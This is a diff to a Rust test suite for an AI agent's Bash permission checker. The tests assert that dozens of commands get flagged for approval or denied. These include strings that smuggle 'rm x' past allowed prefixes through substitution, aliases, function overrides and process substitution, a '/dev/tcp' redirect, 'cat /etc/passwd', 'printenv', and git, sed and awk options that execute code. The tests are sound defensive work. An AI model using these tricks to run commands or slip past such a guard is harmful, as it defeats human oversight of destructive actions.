@@ -71,6 +71,33 @@ fn an_allowed_prefix_smuggles_nothing() {
         "touch /etc/x",
         "touch $x",
         "echo x > $y",
+        "git push >| out.txt",
+        "git push &> out.txt",
+        "git push >& out.txt",
+        "git push <> out.txt",
+        "git push 3> out.txt",
+        "git push {a,$(rm x)}",
+        "git push $[ $(rm x) ]",
+        "git push <<< \"$(rm x)\"",
+        "a=$(rm x) git push",
+        "[[ $(rm x) ]] && git push",
+        "export A=$(rm x); git push",
+        "declare A=$(rm x)",
+        "{ git push; rm x; }",
+        "! rm x",
+        "coproc rm x",
+        "exec rm x",
+        "function git { rm x; }; git push",
+        "alias git='rm x'\ngit push",
+        "hash -p /bin/rm git; git push",
+        "git push # note\nrm x",
+        "while git push; do rm x; done",
+        "select i in $(rm x); do git push; done",
+        "time rm x",
+        "echo a | while read -r b; do rm x; done",
+        "git push > /dev/tcp/10.0.0.1/80",
+        "echo ${x:=$(rm x)}",
+        "echo \"${x/`rm x`/}\"",
     ] {
         let found = bench.short(&format!("Bash {command}"));
         assert!(found.starts_with("ask"), "{command:?}: {found}");
@@ -119,8 +146,23 @@ fn a_denied_command_is_found_wherever_it_hides() {
         "nohup rm x &",
         "cat <<EOF\n$(rm x)\nEOF",
         "trap 'rm x' EXIT",
+        "! rm x",
+        "{ rm x; }",
+        "exec rm x",
+        "command rm x",
+        "time rm x",
+        "find . -execdir rm {} ';'",
+        "find . -ok rm {} ';'",
+        "[[ -n $(rm x) ]]",
+        "a=$(rm x)",
+        "echo \"${x:-$(rm x)}\"",
+        "cat <<< $(rm x)",
+        "while true; do rm x; done",
+        "echo a | xargs -I{} rm {}",
+        "echo x > >(rm x)",
     ] {
-        assert_eq!(bench.short(&format!("Bash {command}")), "deny subcommandResults", "{command}");
+        let found = bench.short(&format!("Bash {command}"));
+        assert_eq!(found, "deny subcommandResults", "{command}");
     }
     bench.check(&[
         ("Bash ls", "allow rule"),
@@ -130,9 +172,52 @@ fn a_denied_command_is_found_wherever_it_hides() {
         ("Bash $x y", "ask other"),
         ("Bash eval \"$x\"", "ask other"),
         ("Bash bash -c \"$x\"", "ask other"),
+        ("Bash alias x=rm\nx y", "ask other"),
+        ("Bash $'rm' x", "ask other"),
+        ("Bash coproc rm x", "ask other"),
+        ("Bash $'\\x72m' x", "ask other"),
     ]);
     assert_eq!(
         bench.denial("Bash rm a.txt").message,
         "Permission to use Bash with command rm a.txt has been denied."
     );
+}
+
+#[test]
+fn what_only_seems_to_read_is_asked_about() {
+    let bench = Bench::new();
+    for command in [
+        "git -c core.fsmonitor=x status",
+        "git --exec-path=. status",
+        "git log --output=x",
+        "git diff --ext-diff",
+        "git branch -D x",
+        "git branch new",
+        "git -C /etc status",
+        "sort -o out a.txt",
+        "sort --compress-program=x a.txt",
+        "sed -n 'w out' a.txt",
+        "sed -n '1e rm x' a.txt",
+        "sed -i s/a/b/ a.txt",
+        "rg --pre x word",
+        "tree -o out",
+        "uniq a.txt out",
+        "find . -fprintf out x",
+        "find . -fls out",
+        "find . -delete",
+        "awk 'BEGIN { system(\"rm x\") }'",
+        "cat a.txt > out",
+        "echo hi | tee out",
+        "date -s 2020-01-01",
+        "ls | xargs rm",
+        "cat /etc/passwd",
+        "cat ../outside/b.txt",
+        "cat $HOME/x",
+        "cat ~/x",
+        "ls; env",
+        "printenv",
+    ] {
+        let found = bench.short(&format!("Bash {command}"));
+        assert!(found.starts_with("ask"), "{command:?}: {found}");
+    }
 }
